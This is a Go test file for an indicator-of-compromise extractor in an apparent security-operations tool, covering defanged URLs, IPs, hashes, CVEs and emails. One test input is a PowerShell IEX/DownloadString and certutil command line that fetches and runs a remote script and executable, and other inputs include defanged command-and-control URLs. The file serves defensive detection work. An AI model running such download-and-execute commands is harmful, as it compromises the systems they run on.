package ioc

import (
	"slices"
	"strings"
	"testing"

	"github.com/winnow-soc/winnow/alert"
)

// render formats observables as "type value" lines for comparison.
func render(obs []alert.Observable) []string {
	out := make([]string, 0, len(obs))
	for _, o := range obs {
		out = append(out, string(o.Type)+" "+o.Value)
	}
	return out
}

func TestText(t *testing.T) {
	x := New(Options{InternalDomains: []string{"corp.example.com"}})
	tests := []struct {
		name string
		in   string
		want []string
	}{
		// Defanged forms.
		{"hxxp url", "beacon to hxxp://evil[.]com/gate.php now",
			[]string{"url http://evil.com/gate.php", "domain evil.com"}},
		{"hxxps with [:]", "hXXps[:]//Bad(.)Example{.}org/x", []string{"url https://bad.example.org/x", "domain bad.example.org"}},
		{"fxp", "fxp://files[.]example[.]net/a.bin", []string{"url ftp://files.example.net/a.bin", "domain files.example.net"}},
		{"[dot] domain", "evil[dot]example[dot]com", []string{"domain evil.example.com"}},
		{"[://]", "http[://]example.com/", []string{"url http://example.com/", "domain example.com"}},
		{"defanged email", "from user[@]example[.]com", []string{"email user@example.com", "domain example.com"}},
		{"email [at]", "j.doe[at]example.org", []string{"email j.doe@example.org", "domain example.org"}},
		{"defanged ip", "c2 192[.]0[.]2[.]7", []string{"ipv4 192.0.2.7"}},
		// File names are not domains.
		{"file names", "run.ps1 invoice.pdf a.exe config.json lsass.dmp notes.txt", nil},
		{"file ext TLDs", "update.zip clip.mov install.sh tool.py script.pl lib.rs README.md", nil},
		{"file ext TLD defanged", "update[.]zip", []string{"domain update.zip"}},
		{"file ext TLD in url", "https://update.zip/payload", []string{"url https://update.zip/payload", "domain update.zip"}},
		{"file ext TLD in email", "a@b.zip", []string{"email a@b.zip", "domain b.zip"}},
		{"unknown tld", "host.invalidtld foo.bar1", nil},
		{"dotted code", "e.g. i.e. v1.2 System.Net.WebClient x.y", nil},
		// Hashes.
		{"md5 upper", "MD5=D41D8CD98F00B204E9800998ECF8427E", []string{"md5 d41d8cd98f00b204e9800998ecf8427e"}},
		{"sha1", "sha1:da39a3ee5e6b4b0d3255bfef95601890afd80709.", []string{"sha1 da39a3ee5e6b4b0d3255bfef95601890afd80709"}},
		{"sha256", "(e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855)",
			[]string{"sha256 e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"}},
		{"sha512 not sha256", "cf83e1357eefb8bdf1542850d66d8007d620e4050b5715dc83f4a921d36ce9ce47d0d13c5d85f2b0ff8318d2877eec2f63b931bd47417a81a538327af927da3e", nil},
		{"hash glued to word", "xd41d8cd98f00b204e9800998ecf8427e d41d8cd98f00b204e9800998ecf8427e_1", nil},
		{"hash with extension", "d41d8cd98f00b204e9800998ecf8427e.exe", []string{"md5 d41d8cd98f00b204e9800998ecf8427e"}},
		{"33 hex", "d41d8cd98f00b204e9800998ecf8427e0", nil},
		// IPv4.
		{"ipv4 with port", "192.168.10.18:41334 -> 8.8.8.8:53", []string{"ipv4 192.168.10.18", "ipv4 8.8.8.8"}},
		{"invalid octets", "999.1.1.1 256.0.0.1 1.2.3 1.2.3.4.5", nil},
		{"leading zeros", "010.1.1.1 1.02.3.4", nil},
		{"ipv4 range", "10.0.0.1-10.0.0.5", []string{"ipv4 10.0.0.1", "ipv4 10.0.0.5"}},
		{"ipv4 trailing dot", "blocked 203.0.113.9.", []string{"ipv4 203.0.113.9"}},
		{"version glued", "v1.2.3.4 1.2.3.4a", nil},
		// IPv6.
		{"loopback v6", "bind ::1 port", []string{"ipv6 ::1"}},
		{"zone", "fe80::1%eth0 up", []string{"ipv6 fe80::1"}},
		{"bracketed", "[2001:DB8::1]:443", []string{"ipv6 2001:db8::1"}},
		{"full v6", "2001:0db8:0000:0000:0000:ff00:0042:8329,", []string{"ipv6 2001:db8::ff00:42:8329"}},
		{"mapped", "::ffff:192.0.2.1", []string{"ipv6 ::ffff:192.0.2.1"}},
		{"v6 after key", "addr:fe80::1", []string{"ipv6 fe80::1"}},
		{"not v6", "12:30:45 00:11:22:33:44:55 std::string a::b Foo::Bar", nil},
		// CVEs.
		{"cve", "exploits CVE-2021-44228, cve-2019-0708.", []string{"cve CVE-2021-44228", "cve CVE-2019-0708"}},
		{"cve bad", "CVE-2021-123 CVE-21-1234 CVE-2021-1234x xCVE-2021-1234", nil},
		// Emails.
		{"email", "From: Foo.Bar+tag@Example.COM;", []string{"email Foo.Bar+tag@example.com", "domain example.com"}},
		{"mailto", "mailto:alice@corp.example.com", []string{"email alice@corp.example.com", "domain corp.example.com"}},
		{"not email", "user@localhost root@10.0.0.1 @example", []string{"ipv4 10.0.0.1"}},
		// URLs.
		{"port query", "GET http://Example.com:8080/Path/To?q=A&b=2#frag, ok",
			[]string{"url http://example.com:8080/Path/To?q=A&b=2#frag", "domain example.com"}},
		{"parens balanced", "(see https://en.wikipedia.org/wiki/Foo_(bar)).",
			[]string{"url https://en.wikipedia.org/wiki/Foo_(bar)", "domain en.wikipedia.org"}},
		{"trailing punct", "<https://example.org/a>; 'http://example.net/b'.",
			[]string{"url https://example.org/a", "domain example.org", "url http://example.net/b", "domain example.net"}},
		{"ip url", "http://10.1.2.3/x.php", []string{"url http://10.1.2.3/x.php", "ipv4 10.1.2.3"}},
		{"ipv6 url", "http://[::1]:8080/", []string{"url http://[::1]:8080/", "ipv6 ::1"}},
		{"userinfo password dropped", "ftp://User:pw@FTP.example.com/F", []string{"url ftp://User@ftp.example.com/F", "domain ftp.example.com"}},
		{"userinfo user kept", "https://admin@example.org/x", []string{"url https://admin@example.org/x", "domain example.org"}},
		{"userinfo empty user", "http://:secret@example.org/", []string{"url http://example.org/", "domain example.org"}},
		{"two urls", "http://a.example.com,https://b.example.com",
			[]string{"url http://a.example.com", "domain a.example.com", "url https://b.example.com", "domain b.example.com"}},
		{"bad scheme", "gopher://example.com ldap://x", []string{"domain example.com"}},
		{"bad port", "http://example.com:99999/", []string{"domain example.com"}},
		{"bad host", "http://nohost/ http://run.ps1/", nil},
		// Domains and dedup.
		{"domains", "Resolved WWW.Example.COM and example.com.", []string{"domain www.example.com", "domain example.com"}},
		{"private suffix", "x.github.io", []string{"domain x.github.io"}},
		{"internal", "srv.corp.example.com printer.local nas.lan router.home.arpa",
			[]string{"domain srv.corp.example.com", "domain printer.local", "domain nas.lan", "domain router.home.arpa"}},
		{"percent encoded", "/login.php?url=http%3A%2F%2Fmail.example.com%2F.%2Fa", []string{"domain mail.example.com"}},
		{"json escaped", `{\"dest_ip\":\"10.0.0.52\",\"hostname\":\"www.example.com\"}`,
			[]string{"ipv4 10.0.0.52", "domain www.example.com"}},
		{"command line", "IEX (New-Object Net.WebClient).DownloadString('http://10.0.254.30:8000/run.ps1'); certutil -f ftp://[2001:db8::5]/x.exe",
			[]string{"url http://10.0.254.30:8000/run.ps1", "ipv4 10.0.254.30", "url ftp://[2001:db8::5]/x.exe", "ipv6 2001:db8::5"}},
		{"empty", "", nil},
		{"no observables", "the quick brown fox jumps over the lazy dog", nil},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			got := render(x.Text(nil, tc.in, "text"))
			if !slices.Equal(got, tc.want) {
				t.Errorf("Text(%q)\n got %q\nwant %q", tc.in, got, tc.want)
			}
		})
	}
}

func TestTextClassRoleDedup(t *testing.T) {
	x := New(Options{InternalDomains: []string{".Corp.Example.com."}})
	dst := []alert.Observable{{Type: alert.IPv4, Value: "8.8.8.8", Role: "dst"}}
	dst = x.Text(dst, "8.8.8.8 10.1.1.1 10.1.1.1 a.corp.example.com example.org", "text")
	want := []alert.Observable{
		{Type: alert.IPv4, Value: "8.8.8.8", Role: "dst"},
		{Type: alert.IPv4, Value: "10.1.1.1", Class: "private", Role: "text"},
		{Type: alert.Domain, Value: "a.corp.example.com", Class: "internal", Role: "text"},
		{Type: alert.Domain, Value: "example.org", Class: "external", Role: "text"},
	}
	if !slices.EqualFunc(dst, want, func(a, b alert.Observable) bool {
		return a.Type == b.Type && a.Value == b.Value && a.Class == b.Class && a.Role == b.Role
	}) {
		t.Errorf("got %+v\nwant %+v", dst, want)
	}
}

// TestTextDedupMap crosses the threshold where dedup switches to a map.
func TestTextDedupMap(t *testing.T) {
	x := New(Options{})
	var b strings.Builder
	for i := range 100 {
		b.WriteString("10.0.0.")
		b.WriteString(string(rune('0' + i%10)))
		b.WriteString(" 10.1.")
		b.WriteString(strings.Repeat("1", 1+i%3))
		b.WriteString(".")
		b.WriteString(string(rune('0' + i/10)))
		b.WriteString(" ")
	}
	s := b.String()
	got := x.Text(nil, s, "")
	got = x.Text(got, s, "") // second pass adds nothing
	seen := map[string]bool{}
	for _, o := range got {
		if seen[o.Value] {
			t.Fatalf("duplicate %q", o.Value)
		}
		seen[o.Value] = true
	}
	if want := 10 + 3*10; len(got) != want {
		t.Errorf("got %d observables, want %d", len(got), want)
	}
}

func TestAdd(t *testing.T) {
	x := New(Options{})
	tests := []struct {
		typ  alert.ObservableType
		in   string
		want string // "type value", or "" when rejected
	}{
		{alert.IPv4, " 10.0.0.1 ", "ipv4 10.0.0.1"},
		{alert.IPv4, "010.0.0.1", ""},
		{alert.IPv4, "::1", "ipv6 ::1"},
		{alert.IPv6, "FE80::1%eth0", "ipv6 fe80::1"},
		{alert.IPv6, "not-an-ip", ""},
		{alert.Domain, "WWW.Example.com.", "domain www.example.com"},
		{alert.Domain, "evil[.]com", "domain evil.com"},
		{alert.Domain, "update.zip", "domain update.zip"},
		{alert.Domain, "run.ps1", ""},
		{alert.URL, "hxxps://evil[.]com/A", "url https://evil.com/A"},
		{alert.URL, "HTTP://Example.com/Q?x=1", "url http://example.com/Q?x=1"},
		{alert.URL, "http://example.com/ trailing", ""},
		{alert.URL, "javascript:alert(1)", ""},
		{alert.EmailAd, "Bob@Example.COM", "email Bob@example.com"},
		{alert.EmailAd, "bob[@]example[.]com", "email bob@example.com"},
		{alert.EmailAd, "bob@", ""},
		{alert.MD5, "D41D8CD98F00B204E9800998ECF8427E", "md5 d41d8cd98f00b204e9800998ecf8427e"},
		{alert.SHA1, "D41D8CD98F00B204E9800998ECF8427E", ""},
		{alert.SHA256, "zz" + strings.Repeat("0", 62), ""},
		{alert.CVE, "cve-2014-6271", "cve CVE-2014-6271"},
		{alert.CVE, "CVE-2014-62", ""},
		{alert.HostID, " WS-012.Corp ", "host ws-012.corp"},
		{alert.UserID, " CORP\\Alice ", "user CORP\\Alice"},
		{alert.ProcID, "C:\\Windows\\System32\\cmd.exe", "process C:\\Windows\\System32\\cmd.exe"},
		{alert.FileID, "invoice.pdf", "file invoice.pdf"},
		{alert.FileID, "   ", ""},
		{"unknown", "x", ""},
	}
	for _, tc := range tests {
		t.Run(string(tc.typ)+"/"+tc.in, func(t *testing.T) {
			got := render(x.Add(nil, tc.typ, tc.in, "src"))
			var want []string
			if tc.want != "" {
				want = []string{tc.want}
			}
			if !slices.Equal(got, want) {
				t.Errorf("Add(%s, %q) = %q, want %q", tc.typ, tc.in, got, want)
			}
		})
	}
}

// TestTextConcurrent shares one Extractor between goroutines; run with -race.
func TestTextConcurrent(t *testing.T) {
	x := New(Options{InternalDomains: []string{"corp.example.com"}})
	const in = "hxxp://evil[.]com/a 10.0.0.1 a@b.corp.example.com CVE-2024-3094"
	want := render(x.Text(nil, in, "text"))
	errs := make(chan string, 8)
	for range 8 {
		go func() {
			got := render(x.Text(nil, in, "text"))
			if !slices.Equal(got, want) {
				errs <- strings.Join(got, ",")
				return
			}
			errs <- ""
		}()
	}
	for range 8 {
		if e := <-errs; e != "" {
			t.Errorf("concurrent Text = %s, want %q", e, want)
		}
	}
}
